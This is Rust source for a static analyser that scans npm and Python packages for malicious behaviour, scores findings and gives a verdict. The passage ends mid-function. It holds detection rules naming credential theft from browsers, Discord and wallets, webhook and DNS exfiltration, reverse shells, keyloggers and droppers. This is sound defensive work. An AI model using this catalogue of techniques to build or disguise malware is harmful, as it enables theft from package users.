//! Static behaviour analysis of one package, with evidence.
//!
//! This crate owns the rules that turn a package's files (already unpacked in memory
//! by `malgraph-archive`) into a [`ScanReport`]: findings with file/line evidence,
//! behaviour categories, trigger stages, anti-detection techniques, indicators,
//! platforms, metadata, a score and a verdict. Every rule it can emit is listed in
//! one registry, [`rules()`], with its category, severity and explanation.
//!
//! It must not read archives or the disk (the only exception is loading the user's
//! YARA rule folder in [`Analyzer::new`]) and must never execute, import or install
//! anything it analyses: all decoding of payloads is static.

use std::collections::{BTreeSet, HashMap, HashSet};
use std::path::PathBuf;
use std::sync::LazyLock;

use malgraph_core::{
    Anomaly, AnomalyKind, Ecosystem, Finding, Iocs, Metadata, PackageFile, ScanReport, ScanStats,
    Severity, Stage, Verdict,
};
use regex::Regex;

mod cache;
mod decode;
mod ext;
mod fold;
mod js;
mod meta;
mod model;
mod patterns;
mod pickle;
mod pyc;
mod pylit;
mod python;
mod rules;
#[cfg(feature = "yara")]
mod yara;

use model::{Fact, Facts, Raw, Scope, Sink};
pub use rules::{
    MIN_STRONGEST_MALICIOUS, RuleInfo, THRESHOLD_MALICIOUS, THRESHOLD_SUSPICIOUS, rule, rules,
    severity_weight,
};

/// Settings of an [`Analyzer`].
#[derive(Debug, Clone)]
pub struct AnalyzerConfig {
    /// Folder of `.yar` / `.yara` rules to compile and run on every file.
    pub yara_dir: Option<PathBuf>,
    /// Score at or above which the verdict is malicious.
    pub threshold_malicious: f64,
    /// Score at or above which the verdict is suspicious.
    pub threshold_suspicious: f64,
    /// A malicious verdict also needs one finding weighing at least this much (a
    /// high-severity behaviour at install/import time, or a critical one anywhere), or
    /// several high-severity behaviours: weak signals alone never add up to malicious.
    pub min_strongest_malicious: f64,
    /// Files larger than this are not parsed (they are still noted and scanned for strings).
    pub max_parse_bytes: usize,
    /// How many layers of encoded payloads to decode.
    pub max_decode_depth: u32,
}

impl Default for AnalyzerConfig {
    fn default() -> Self {
        AnalyzerConfig {
            yara_dir: None,
            threshold_malicious: THRESHOLD_MALICIOUS,
            threshold_suspicious: THRESHOLD_SUSPICIOUS,
            min_strongest_malicious: MIN_STRONGEST_MALICIOUS,
            max_parse_bytes: 8 << 20,
            max_decode_depth: 5,
        }
    }
}

/// Why an [`Analyzer`] could not be built.
#[derive(Debug, thiserror::Error)]
pub enum AnalyzeError {
    /// A YARA rule file does not compile.
    #[error("YARA rule {file}:{line}: {message}")]
    Yara {
        /// The rule file.
        file: PathBuf,
        /// 1-based line of the error (0 when unknown).
        line: u32,
        /// The compiler's message.
        message: String,
    },
    /// The YARA folder could not be read.
    #[error("cannot read YARA rules at {path}: {source}")]
    Io {
        /// The file or folder.
        path: PathBuf,
        /// The underlying error.
        #[source]
        source: std::io::Error,
    },
    /// A YARA folder was given but this build has no YARA support.
    #[error("this build of malgraph-analyze has no YARA support (feature `yara`)")]
    YaraUnsupported,
}

/// A compiled analyser: build once, analyse many packages (it is `Send + Sync`).
pub struct Analyzer {
    cfg: AnalyzerConfig,
    /// Python files already analysed, by content.
    files: cache::FileCache,
    #[cfg(feature = "yara")]
    yara: Option<yara::YaraRules>,
}

/// Factor of code only reachable from tests, docs or examples.
const TEST_FACTOR: f64 = 0.25;
/// Factor of the top level of modules nobody is known to import.
const MODULE_TOP_FACTOR: f64 = 0.9;
/// A weight under this share of its severity's weight comes from discounted code
/// (tests, docs, examples, carried archives: factors of at most a quarter).
const DISCOUNTED_BELOW: f64 = 0.3;
/// Factor of code inside an archive within the package (`pkg/x.whl!/mod.py`).
const NESTED_FACTOR: f64 = 0.25;
/// Factor of function bodies not reachable from any top level.
const RUNTIME_FACTOR: f64 = 0.6;

/// `__import__('name')` in a .pth line.
static PTH_DUNDER_IMPORT_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"__import__\(\s*['"]([\w]+)"#).expect("static regex compiles"));

/// A function definition: `def f(` (its name).
static DEF_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bdef\s+([A-Za-z_]\w*)\s*\(").expect("static regex compiles"));

/// A call of a name: `f(` or `obj.f(`.
static CALL_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b([A-Za-z_]\w*)\s*\(").expect("static regex compiles"));

static IMPORT_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^[ \t]*(?:from[ \t]+([\w.]+)[ \t]+import[ \t]+\(?([\w, \t]+)|import[ \t]+([\w., \t]+))")
        .expect("static regex compiles")
});

impl Analyzer {
    /// Build an analyser, compiling the YARA rules of `cfg.yara_dir` if any.
    pub fn new(cfg: AnalyzerConfig) -> Result<Analyzer, AnalyzeError> {
        #[cfg(feature = "yara")]
        {
            let yara = match &cfg.yara_dir {
                Some(d) => Some(yara::YaraRules::load(d)?),
                None => None,
            };
            Ok(Analyzer {
                cfg,
                files: cache::FileCache::default(),
                yara,
            })
        }
        #[cfg(not(feature = "yara"))]
        {
            if cfg.yara_dir.is_some() {
                return Err(AnalyzeError::YaraUnsupported);
            }
            Ok(Analyzer {
                cfg,
                files: cache::FileCache::default(),
            })
        }
    }

    /// Analyse one Python file into `sink`, or reuse the analysis of the same bytes
    /// reached the same way in an earlier package.
    fn python_file(&self, data: &[u8], ctx: &python::PyCtx<'_>, sink: &mut Sink) -> Facts {
        let key = cache::FileKey::new(data, ctx);
        if let Some(hit) = key.as_ref().and_then(|k| self.files.get(k)) {
            sink.absorb(&hit.sink, &hit.path, ctx.path);
            return hit.facts.clone();
        }
        let mut part = Sink::default();
        let mut facts = Facts::default();
        python::analyze(data, ctx, &mut part, &mut facts);
        sink.absorb(&part, ctx.path, ctx.path);
        if let Some(key) = key {
            let result = cache::FileResult {
                path: ctx.path.to_string(),
                sink: part,
                facts: facts.clone(),
            };
            self.files.insert(key, result);
        }
        facts
    }

    /// Analyse one package. Fills everything of the report except `path` and
    /// `sha256` (left `""` and `None` for the caller to set).
    pub fn analyze(&self, files: &[PackageFile], anomalies: &[Anomaly]) -> ScanReport {
        let mut sink = Sink::default();
        let ecosystem = guess_ecosystem(files);
        let local = LocalImports::of(files);
        let (setup_imports, init_imports) = (&local.setup, &local.init);
        let mut findings_extra: Vec<Raw> = Vec::new();
        let mut flagged_binary: HashSet<&str> = HashSet::new();
        let mut code_files = 0usize;
        let mut install_js: Vec<String> = Vec::new();
        // Shell or batch scripts an npm install hook runs (`bash setup.sh`).
        let mut install_scripts: Vec<String> = Vec::new();
        let mut npm_main = String::from("index.js");
        // Folder holding package.json (`package/` in registry tarballs).
        let mut npm_root = String::new();
        let mut per_file_facts: Vec<(String, Facts)> = Vec::new();

        // Declarative metadata first (npm install scripts decide JS stages).
        for f in files {
            let base = basename(&f.path);
            let depth = f.path.matches('/').count();
            let text = || String::from_utf8_lossy(&f.data);
            match base {
                "PKG-INFO" | "METADATA" if depth <= 2 => meta::pkg_info(&text(), &mut sink),
                "setup.cfg" if depth <= 1 => meta::setup_cfg(&text(), &mut sink),
                "pyproject.toml" if depth <= 1 => meta::pyproject(&text(), &mut sink),
                "package.json" if depth <= 1 && ecosystem == Ecosystem::Npm => {
                    let text = text();
                    npm_main = meta::package_main(&text);
                    npm_root = f.path[..f.path.len() - base.len()].to_string();
                    for (hook, cmd) in meta::package_json(&text, &mut sink) {
                        let msg = format!("`{hook}` script: {}", model::snippet(&cmd));
                        findings_extra.push(raw(
                            "NPM-INSTALL-SCRIPT",
                            &f.path,
                            0,
                            &cmd,
                            msg,
                            Some(Scope::INSTALL),
                        ));
                        for p in patterns::command_rules(&cmd) {
                            let msg =
                                format!("`{hook}` script {}: {}", p.what, model::snippet(&cmd));
                            findings_extra.push(raw(
                                p.rule,
                                &f.path,
                                0,
                                &cmd,
                                msg,
                                Some(Scope::INSTALL),
                            ));
                        }
                        for w in cmd.split_whitespace() {
                            if w.ends_with(".js") || w.ends_with(".mjs") || w.ends_with(".cjs") {
                                install_js.push(w.trim_start_matches("./").to_string());
                            }
                            if patterns::is_script_name(w) {
                                install_scripts.push(w.trim_start_matches("./").to_string());
                            }
                        }
                        // `node -e "<code>"`: the code itself runs while installing.
                        if let Some(code) = meta::inline_node_code(&cmd) {
                            let ctx = js::JsCtx {
                                path: &f.path,
                                top: Scope::INSTALL,
                                func: Scope::INSTALL,
                                max_parse: self.cfg.max_parse_bytes,
                            };
                            let facts = js::analyze(code.as_bytes(), &ctx, &mut sink);
                            per_file_facts.push((f.path.clone(), facts));
                        }
                    }
                }
                b if depth <= 1 && b.starts_with("requirements") && b.ends_with(".txt") => {
                    meta::requirements(&text(), &mut sink)
                }
                _ => {}
            }
        }

        let py_sources: HashSet<&str> = files
            .iter()
            .map(|f| f.path.as_str())
            .filter(|p| p.ends_with(".py"))
            .collect();
        for f in files {
            let path = f.path.as_str();
            let base = basename(path);
            let lower = base.to_ascii_lowercase();
            let stem = lower.rsplit_once('.').map_or(lower.as_str(), |x| x.0);
            let imported_by_setup = setup_imports.contains(stem);
            let imported_by_init = init_imports.contains(stem);
            let mult = if path.contains("!/") {
                // Inside an archive the package carries: installing the package does
                // not install it (a setup.py that does so is flagged for that).
                NESTED_FACTOR
            } else if is_test_path(path) && !imported_by_setup && !imported_by_init {
                TEST_FACTOR
            } else {
                1.0
            };
            // Bytecode without its source: code nobody can review.
            if lower.ends_with(".pyc") && !has_source(path, &py_sources) {
                let msg = format!(
                    "compiled bytecode without its source ({} bytes)",
                    f.data.len()
                );
                findings_extra.push(raw("PKG-PYC-ONLY", path, 0, "", msg, None));
                // What the bytecode names, at the stage its module would run.
                if let Some(strings) = pyc::read(&f.data) {
                    let module = lower.split('.').next().unwrap_or("");
                    let scope = if setup_imports.contains(module) {
                        Scope::INSTALL
                    } else if module == "__init__" || init_imports.contains(module) {
                        Scope::IMPORT
                    } else {
                        Scope {
                            stage: Stage::Import,
                            factor: MODULE_TOP_FACTOR,
                        }
                    };
                    pyc_findings(
                        path,
                        &strings,
                        scope.scaled(mult),
                        &mut findings_extra,
                        &mut sink,
                    );
                }
                continue;
            }
            // Pickles (models, data files): loading one calls what it imports, wherever
            // it sits (a model inside a zip-format `.pt` file is named `m.pt!/.../data.pkl`).
            if !lower.ends_with(".py")
                && pickle::looks_like(&f.data)
                && let Some(globals) = pickle::read(&f.data)
            {
                let discount = if is_test_path(path) { TEST_FACTOR } else { 1.0 };
                let scope = Scope {
                    stage: Stage::Import,
                    factor: MODULE_TOP_FACTOR * discount,
                };
                self.pickle_findings(path, &globals, scope, &mut findings_extra, &mut sink);
                continue;
            }
            // Bundled binaries.
            if let Some(rule) = binary_kind(&lower, &f.data) {
                flagged_binary.insert(path);
                let msg = format!("bundled binary ({} bytes)", f.data.len());
                findings_extra.push(raw(rule, path, 0, "", msg, None));
                continue;
            }
            if lower.ends_with(".py") || lower.ends_with(".pyw") {
                code_files += 1;
                let (role, top) = if base == "setup.py" && path.matches('/').count() <= 1 {
                    (python::Role::Setup, Scope::INSTALL)
                } else if base == "__init__.py" {
                    if imported_by_setup {
                        (python::Role::Init, Scope::INSTALL)
                    } else {
                        (python::Role::Init, Scope::IMPORT)
                    }
                } else if imported_by_setup {
                    (python::Role::Module, Scope::INSTALL)
                } else if imported_by_init {
                    (python::Role::Module, Scope::IMPORT)
                } else {
                    (
                        python::Role::Module,
                        Scope {
                            stage: Stage::Import,
                            factor: MODULE_TOP_FACTOR,
                        },
                    )
                };
                let called = local.called_in(&f.data, imported_by_setup, imported_by_init);
                let ctx = python::PyCtx {
                    path,
                    role,
                    top: top.scaled(mult),
                    func: Scope {
                        stage: Stage::Runtime,
                        factor: RUNTIME_FACTOR * mult,
                    },
                    layer: 0,
                    forced: None,
                    depth_left: self.cfg.max_decode_depth,
                    max_parse: self.cfg.max_parse_bytes,
                    in_pip: in_pip(path),
                    called: &called,
                };
                let facts = self.python_file(&f.data, &ctx, &mut sink);
                per_file_facts.push((path.to_string(), facts));
            } else if lower.ends_with(".pth") {
                code_files += 1;
                let text = String::from_utf8_lossy(&f.data);
                for (i, line) in text.lines().enumerate() {
                    let t = line.trim_start();
                    if t.starts_with("import ") || t.starts_with("import\t") {
                        let msg =
                            "executable line in a .pth file (runs at every interpreter start)"
                                .to_string();
                        findings_extra.push(raw(
                            "PY-PTH-CODE",
                            path,
                            i as u32 + 1,
                            t,
                            msg,
                            Some(Scope::IMPORT.scaled(mult)),
                        ));
                        let ctx = python::PyCtx {
                            path,
                            role: python::Role::Pth,
                            top: Scope::IMPORT.scaled(mult),
                            func: Scope::IMPORT.scaled(mult),
                            layer: 0,
                            forced: Some((Scope::IMPORT.scaled(mult), i as u32 + 1)),
                            depth_left: self.cfg.max_decode_depth,
                            max_parse: self.cfg.max_parse_bytes,
                            in_pip: in_pip(path),
                            called: &[],
                        };
                        let mut facts = Facts::default();
                        python::analyze(t.as_bytes(), &ctx, &mut sink, &mut facts);
                    }
                }
            } else if ecosystem == Ecosystem::Npm
                && install_scripts
                    .iter()
                    .any(|j| path.strip_prefix(npm_root.as_str()) == Some(j.as_str()))
            {
                // Every line of a script the install hook runs is a command run at install.
                code_files += 1;
                findings_extra.extend(script_commands(
                    path,
                    &f.data,
                    "install script",
                    Scope::INSTALL,
                ));
            } else if ecosystem == Ecosystem::Npm
                && (lower.ends_with(".js") || lower.ends_with(".mjs") || lower.ends_with(".cjs"))
                && !path.contains("/node_modules/")
            {
                code_files += 1;
                let rel = path.strip_prefix(npm_root.as_str()).unwrap_or(path);
                let names = |j: &str| j == rel;
                let (top, func) = if install_js.iter().any(|j| names(j)) {
                    // An install script runs from start to end.
                    (Scope::INSTALL, Scope::INSTALL)
                } else {
                    // The top level runs when the file is required: fully for the
                    // package's entry point, a little less for other files.
                    let factor = if names(&npm_main) {
                        1.0
                    } else {
                        MODULE_TOP_FACTOR
                    };
                    (
                        Scope {
                            stage: Stage::Import,
                            factor,
                        }
                        .scaled(mult),
                        Scope {
                            stage: Stage::Runtime,
                            factor: RUNTIME_FACTOR,
                        }
                        .scaled(mult),
                    )
                };
                let ctx = js::JsCtx {
                    path,
                    top,
                    func,
                    max_parse: self.cfg.max_parse_bytes,
                };
                let facts = js::analyze(&f.data, &ctx, &mut sink);
                per_file_facts.push((path.to_string(), facts));
            }
        }

        // Files that are not Python modules but whose content the package's code exec's
        // (a payload kept in `data.txt`): analysed as code run where the exec is.
        let mut exec_files: Vec<(String, Scope)> = per_file_facts
            .iter()
            .flat_map(|(_, facts)| facts.exec_files.iter().map(|(n, _, s)| (n.clone(), *s)))
            .collect();
        exec_files.sort_by(|a, b| a.0.cmp(&b.0));
        exec_files.dedup_by(|a, b| a.0 == b.0);
        for (name, scope) in exec_files {
            for f in files.iter().filter(|f| {
                basename(&f.path) == name
                    && !f.path.to_ascii_lowercase().ends_with(".py")
                    && !flagged_binary.contains(f.path.as_str())
            }) {
                let ctx = python::PyCtx {
                    path: &f.path,
                    role: python::Role::Module,
                    top: scope,
                    func: Scope {
                        stage: Stage::Runtime,
                        factor: RUNTIME_FACTOR * scope.factor.min(1.0),
                    },
                    layer: 0,
                    forced: None,
                    depth_left: self.cfg.max_decode_depth,
                    max_parse: self.cfg.max_parse_bytes,
                    in_pip: in_pip(&f.path),
                    called: &[],
                };
                let facts = self.python_file(&f.data, &ctx, &mut sink);
                per_file_facts.push((f.path.clone(), facts));
            }
        }

        // Shell scripts the package ships and its code starts (`exec('bash setup.sh')`):
        // every line is a command run where the start is. Install-hook scripts were
        // read above.
        let mut started: Vec<(&str, Scope)> = per_file_facts
            .iter()
            .flat_map(|(_, facts)| facts.run_files.iter())
            .filter(|(name, ..)| patterns::is_script_name(name))
            .map(|(name, _, scope, _)| (name.as_str(), *scope))
            .collect();
        started.sort_by(|a, b| a.0.cmp(b.0));
        started.dedup_by(|a, b| a.0 == b.0);
        for (name, scope) in started {
            for f in files.iter().filter(|f| {
                basename(&f.path) == name
                    && !install_scripts
                        .iter()
                        .any(|j| f.path.strip_prefix(npm_root.as_str()) == Some(j.as_str()))
            }) {
                code_files += 1;
                findings_extra.extend(script_commands(
                    &f.path,
                    &f.data,
                    "script the code starts",
                    scope,
                ));
            }
        }

        // Combinations within one file.
        for (path, facts) in &per_file_facts {
            // Same function (or both at the top level): drop, then run (a program started
            // before anything is downloaded cannot be the download).
            let dropped = followed_by(&facts.download_to_file, &facts.run_program)
                .map(|f| (f, "downloads a file and runs a program"))
                .or_else(|| {
                    followed_by(&facts.download_to_file, &facts.load_code)
                        .map(|f| (f, "downloads a file and loads code from where it wrote it"))
                });
            // A remote repository cloned, then a script started in the same function.
            // Not while installing: some sdists clone a dependency and run its generator to
            // build; at import and run time nothing builds.
            let cloned = followed_by(
                facts
                    .clone_repo
                    .iter()
                    .filter(|(_, _, scope, _)| scope.stage != Stage::Install),
                &facts.run_script,
            )
            .map(|f| (f, "clones a remote repository and runs a script"));
            // A download written into an autostart place runs at every login.
            let persisted = facts
                .download_to_file
                .iter()
                .find(|(f, ..)| facts.autostart_write.iter().any(|(g, ..)| g == f))
                .map(|f| {
                    (
                        f,
                        "downloads a file into an autostart place (it runs at every login)",
                    )
                });
            // A program staged on a file-sharing host or a raw IP, in a file that writes
            // a download and runs a program, even in different functions (a dropper's
            // `download(url, dir)` and `run_hidden(path)` helpers).
            let staged = facts
                .staged_exe_url
                .first()
                .filter(|_| {
                    dropped.is_none()
                        && !facts.download_to_file.is_empty()
                        && !facts.run_program.is_empty()
                })
                .map(|f| {
                    (
                        f,
                        "names a program on a file-sharing host or raw IP, writes a download and runs a program",
                    )
                });
            for ((_, line, scope, snip), msg) in dropped
                .into_iter()
                .chain(cloned)
                .chain(persisted)
                .chain(staged)
            {
                findings_extra.push(raw(
                    "DL-WRITE-EXEC",
                    path,
                    *line,
                    snip,
                    msg.to_string(),
                    Some(*scope),
                ));
            }
            // A binary the package ships, started while installing or importing.
            for (name, line, scope, snip) in &facts.run_files {
                if matches!(scope.stage, Stage::Install | Stage::Import)
                    && files.iter().any(|f| {
                        flagged_binary.contains(f.path.as_str()) && basename(&f.path) == name
                    })
                {
                    findings_extra.push(raw(
                        "PKG-BINARY-RUN",
                        path,
                        *line,
                        snip,
                        format!(
                            "starts the binary it ships ({name}) while installing or importing"
                        ),
                        Some(*scope),
                    ));
                    break;
                }
            }
            // Keystrokes captured in a file that sends data: a keylogger.
            if let (Some((_, line, scope, snip)), false) =
                (facts.key_capture.first(), facts.upload.is_empty())
            {
                findings_extra.push(raw(
                    "EXFIL-SEND-COLLECTED",
                    path,
                    *line,
                    snip,
                    "records keystrokes in a file that sends data over the network".into(),
                    Some(*scope),
                ));
            }
            // Executable memory and native code started in the same file: a shellcode loader.
            if !facts.native_alloc.is_empty()
                && let Some((_, line, scope, snip)) = facts.native_run.first().cloned()
            {
                let msg = "allocates executable memory and starts native code in it".to_string();
                findings_extra.push(raw("PY-SHELLCODE", path, line, &snip, msg, Some(scope)));
            }
            // Host identity collected and network used, both at install or import time.
            let early = |s: &Scope| s.stage != Stage::Runtime && s.factor >= 1.0;
            if facts.host_collect.iter().any(|(_, _, s, _)| early(s))
                && let Some((_, line, scope, snip)) =
                    facts.network.iter().find(|(_, _, s, _)| early(s)).cloned()
            {
                let msg = "collects host identity and uses the network at install/import time"
                    .to_string();
                findings_extra.push(raw("EXFIL-BEACON", path, line, &snip, msg, Some(scope)));
            }
            // Network and commands, both while installing.
            let installing = |s: &Scope| s.stage == Stage::Install && s.factor >= 1.0;
            if facts.run_program.iter().any(|(_, _, s, _)| installing(s))
                && let Some((_, line, scope, snip)) = facts
                    .network
                    .iter()
                    .find(|(_, _, s, _)| installing(s))
                    .cloned()
            {
                let msg = "uses the network and runs commands while installing".to_string();
                findings_extra.push(raw(
                    "INSTALL-FETCH-RUN",
                    path,
                    line,
                    &snip,
                    msg,
                    Some(scope),
                ));
            }
            if let Some((_, line, scope, snip)) =
                followed_by(&facts.decoded_to_file, &facts.run_program)
            {
                let msg = "writes decoded data to disk and runs a program".to_string();
                findings_extra.push(raw(
                    "PY-DROP-DECODED-EXEC",
                    path,
                    *line,
                    snip,
                    msg,
                    Some(*scope),
                ));
            }
            if let Some((line, scope, snip)) = &facts.dup2
                && facts.socket_connect
            {
                let msg = "socket descriptors duplicated onto a process: reverse shell".to_string();
                findings_extra.push(raw(
                    "PY-RC-REVERSE-SHELL",
                    path,
                    *line,
                    snip,
                    msg,
                    Some(*scope),
                ));
            }
        }

        stealer_shapes(&sink.findings, &mut findings_extra);

        for a in anomalies {
            if a.kind == AnomalyKind::BundledBinary {
                if !flagged_binary.contains(a.path.as_str()) {
                    let msg = format!("bundled binary: {}", a.detail);
                    findings_extra.push(raw("PKG-BINARY-NATIVE", &a.path, 0, "", msg, None));
                }
                continue;
            }
            let msg = format!("{}: {}", a.kind, a.detail);
            findings_extra.push(raw("PKG-ARCHIVE-ANOMALY", &a.path, 0, "", msg, None));
        }

        #[cfg(feature = "yara")]
        let yara_findings = match &self.yara {
            Some(y) => y.scan(files),
            None => Vec::new(),
        };
        #[cfg(not(feature = "yara"))]
        let yara_findings: Vec<Finding> = Vec::new();

        // Name and typosquatting.
        let name = sink
            .name
            .clone()
            .map(|n| malgraph_core::normalise_name(&ecosystem, &n));
        let typosquat = name
            .as_deref()
            .and_then(|n| malgraph_typosquat::typosquat_of(&ecosystem, n))
            .map(str::to_string);
        if let (Some(t), Some(n)) = (&typosquat, &name) {
            let msg = format!("name `{n}` imitates popular `{t}`");
            findings_extra.push(raw("META-TYPOSQUAT", "", 0, n, msg, None));
        }

        let mut raws = std::mem::take(&mut sink.findings);
        raws.extend(findings_extra);

        // Behaviour overlap: strong findings concentrated in a large code base.
        let strong_files: BTreeSet<&str> = raws
            .iter()
            .filter(|r| rule(r.rule).is_some_and(|i| i.severity >= Severity::High))
            .map(|r| r.file.as_str())
            .collect();
        if sink.code_lines >= 500
            && code_files >= 5
            && !strong_files.is_empty()
            && strong_files.len() <= 2
        {
            let first = strong_files
                .iter()
                .next()
                .map(|s| s.to_string())
                .unwrap_or_default();
            let msg = format!(
                "strong findings in {} of {code_files} code files ({} lines)",
                strong_files.len(),
                sink.code_lines
            );
            raws.push(raw("META-BEHAVIOUR-OVERLAP", &first, 0, "", msg, None));
        }

        let mut findings = score_findings(raws);
        // (Folded from +0.0: an empty f64 sum is -0.0, which prints as "-0.0".)
        let mut score: f64 = findings.iter().map(|(_, w)| *w).fold(0.0, |a, w| a + w);
        let mut strongest = findings.iter().map(|(_, w)| *w).fold(0.0, f64::max);
        // Several distinct high-severity behaviours also make strong evidence — not
        // when discounted as code nothing installs or imports (tests, docs, carried
        // archives): a test suite names many behaviours without doing any of them.
        let high: Vec<&Finding> = findings
            .iter()
            .filter(|(f, w)| {
                *w > 0.0
                    && f.severity >= Severity::High
                    && *w >= severity_weight(f.severity) * DISCOUNTED_BELOW
            })
            .map(|(f, _)| f)
            .collect();
        let high_rules: HashSet<&str> = high.iter().map(|f| f.rule.as_str()).collect();
        let high_cats: HashSet<_> = high.iter().map(|f| f.category).collect();
        let several_strong = high_rules.len() >= 3 || high_cats.len() >= 2;
        let mut weights: Vec<f64> = findings.iter().map(|(_, w)| *w).collect();
        let mut findings: Vec<Finding> = findings.drain(..).map(|(f, _)| f).collect();
        for f in yara_findings {
            let w = severity_weight(f.severity);
            score += w;
            strongest = f64::max(strongest, w);
            findings.push(f);
            weights.push(w);
        }
        score = (score * 100.0).round() / 100.0;

        let mut iocs = Iocs::default();
        malgraph_ioc::extract_into(&sink.strings, &mut iocs);

        let mut categories = BTreeSet::new();
        let mut stages = BTreeSet::new();
        let mut evasion = BTreeSet::new();
        for f in &findings {
            if f.severity >= Severity::Low {
                categories.insert(f.category);
                if let Some(s) = f.stage {
                    stages.insert(s);
                }
            }
            if let Some(e) = f.evasion {
                evasion.insert(e);
            }
        }
        // `network` means network use that is none of the network behaviours: a package that
        // downloads and runs, exfiltrates or is remote-controlled is not also "network".
        if [
            malgraph_core::Category::DownloadExecute,
            malgraph_core::Category::Exfiltration,
            malgraph_core::Category::RemoteControl,
        ]
        .iter()
        .any(|c| categories.contains(c))
        {
            categories.remove(&malgraph_core::Category::Network);
        }
        // Likewise `evasion` is obfuscation on its own; with a behaviour beside it, the
        // techniques are in `evasion` (the field) and the category would only repeat them.
        if categories.iter().any(|c| {
            !matches!(
                c,
                malgraph_core::Category::Evasion
                    | malgraph_core::Category::Packaging
                    | malgraph_core::Category::Metadata
            )
        }) {
            categories.remove(&malgraph_core::Category::Evasion);
        }
        let flagged_lines = findings
            .iter()
            .filter(|f| f.line > 0)
            .map(|f| (f.file.as_str(), f.line))
            .collect::<HashSet<_>>()
            .len() as u64;
        let verdict = if score >= self.cfg.threshold_malicious
            && (strongest >= self.cfg.min_strongest_malicious || several_strong)
        {
            Verdict::Malicious
        } else if score >= self.cfg.threshold_suspicious {
            Verdict::Suspicious
        } else {
            Verdict::Benign
        };
        // Labels and counts above saw every finding; the report lists a few of each kind.
        let findings = cap_repeats(findings, &weights);
        let version = sink.version.clone();
        let metadata = Metadata {
            name: sink.name.clone(),
            version: sink.version.clone(),
            author: sink.author.clone(),
            author_email: sink.author_email.clone(),
            summary: sink.summary.clone(),
            homepage: sink.homepage.clone(),
            dependencies: sink.dependencies.clone(),
            imports: sink.imports.iter().cloned().collect(),
            typosquat_of: typosquat,
        };
        ScanReport {
            path: String::new(),
            ecosystem: (!files.is_empty()).then_some(ecosystem),
            name,
            version,
            sha256: None,
            verdict,
            score,
            categories,
            stages,
            evasion,
            findings,
            iocs,
            platforms: sink.platforms.clone(),
            metadata,
            stats: ScanStats {
                files: files.len() as u64,
                code_bytes: sink.code_bytes,
                code_lines: sink.code_lines,
                flagged_lines,
            },
            error: None,
        }
    }
}

/// Most findings of one rule in one file the report lists. A rule adds to the score at most
/// twice, so the rest only repeat what is shown: they are counted on the last one listed.
const MAX_SAME_RULE_FILE: usize = 3;

/// Keep, for each rule and file, the [`MAX_SAME_RULE_FILE`] findings of most weight (all
/// that count toward the score), in their order; note how many more there were.
fn cap_repeats(findings: Vec<Finding>, weights: &[f64]) -> Vec<Finding> {
    let mut groups: HashMap<(&str, &str), Vec<usize>> = HashMap::new();
    for (i, f) in findings.iter().enumerate() {
        groups.entry((&f.rule, &f.file)).or_default().push(i);
    }
    let mut keep = vec![true; findings.len()];
    let mut more: HashMap<usize, usize> = HashMap::new();
    for idx in groups.values() {
        if idx.len() <= MAX_SAME_RULE_FILE {
            continue;
        }
        let mut by_weight = idx.clone();
        by_weight.sort_by(|a, b| {
            let w = |i: &usize| weights.get(*i).copied().unwrap_or(0.0);
            w(b).total_cmp(&w(a)).then(a.cmp(b))
        });
        for &i in &by_weight[MAX_SAME_RULE_FILE..] {
            keep[i] = false;
        }
        let last = by_weight[..MAX_SAME_RULE_FILE].iter().max().copied();
        if let Some(last) = last {
            more.insert(last, idx.len() - MAX_SAME_RULE_FILE);
        }
    }
    findings
        .into_iter()
        .enumerate()
        .filter(|(i, _)| keep[*i])
        .map(|(i, mut f)| {
            if let Some(n) = more.get(&i) {
                // Before the weight tag, which stays last.
                let note = format!(" (and {n} more like it in this file)");
                let at = f.message.rfind(" [+").unwrap_or(f.message.len());
                f.message.insert_str(at, &note);
            }
            f
        })
        .collect()
}

/// Credential-store rules and exfiltration-channel rules that make a stealer's shape.
const STORE_RULES: [&str; 3] = ["STEAL-BROWSER", "STEAL-DISCORD", "STEAL-WALLET"];
const CHANNEL_RULES: [&str; 4] = [
    "EXFIL-WEBHOOK",
    "EXFIL-WEBHOOK-SEND",
    "EXFIL-PASTE",
    "EXFIL-DNS",
];

/// STEAL-HARVEST: per file, stores of two kinds, or a store and a channel. Reported at
/// the store finding that counts most (its stage and weight factor).
fn stealer_shapes(raws: &[Raw], out: &mut Vec<Raw>) {
    let mut files: Vec<&str> = raws
        .iter()
        .filter(|r| STORE_RULES.contains(&r.rule))
        .map(|r| r.file.as_str())
        .collect();
    files.sort_unstable();
    files.dedup();
    for file in files {
        let in_file = || raws.iter().filter(move |r| r.file == file);
        let stores: BTreeSet<&str> = in_file()
            .filter(|r| STORE_RULES.contains(&r.rule))
            .map(|r| r.rule)
            .collect();
        let channels: BTreeSet<&str> = in_file()
            .filter(|r| CHANNEL_RULES.contains(&r.rule))
            .map(|r| r.rule)
            .collect();
        if stores.len() < 2 && channels.is_empty() {
            continue;
        }
        let Some(at) = in_file()
            .filter(|r| STORE_RULES.contains(&r.rule))
            .max_by(|a, b| a.factor.total_cmp(&b.factor).then(b.line.cmp(&a.line)))
        else {
            continue;
        };
        let parts: Vec<&str> = stores.iter().chain(channels.iter()).copied().collect();
        let mut r = raw(
            "STEAL-HARVEST",
            file,
            at.line,
            &at.snippet,
            format!(
                "credential stores and exfiltration in one file ({})",
                parts.join(", ")
            ),
            None,
        );
        r.stage = at.stage;
        r.factor = at.factor;
        r.layer = at.layer;
        out.push(r);
    }
}

fn raw(
    rule: &'static str,
    file: &str,
    line: u32,
    snip: &str,
    message: String,
    scope: Option<Scope>,
) -> Raw {
    Raw {
        rule,
        file: file.to_string(),
        line,
        snippet: model::snippet(snip),
        layer: 0,
        message,
        stage: scope.map(|s| s.stage),
        factor: scope.map_or(1.0, |s| s.factor),
    }
}

/// Turn raw findings into findings with weights (see the scoring rules in [`rules()`]'s
/// module docs): per rule, the heaviest counts fully, the second half, the rest nothing.
fn score_findings(raws: Vec<Raw>) -> Vec<(Finding, f64)> {
    let mut by_rule: HashMap<&'static str, Vec<usize>> = HashMap::new();
    let weights: Vec<f64> = raws
        .iter()
        .map(|r| rule(r.rule).map_or(0.0, |i| severity_weight(i.severity)) * r.factor)
        .collect();
    for (i, r) in raws.iter().enumerate() {
        by_rule.entry(r.rule).or_default().push(i);
    }
    let mut counted = vec![0.0; raws.len()];
    for idx in by_rule.values_mut() {
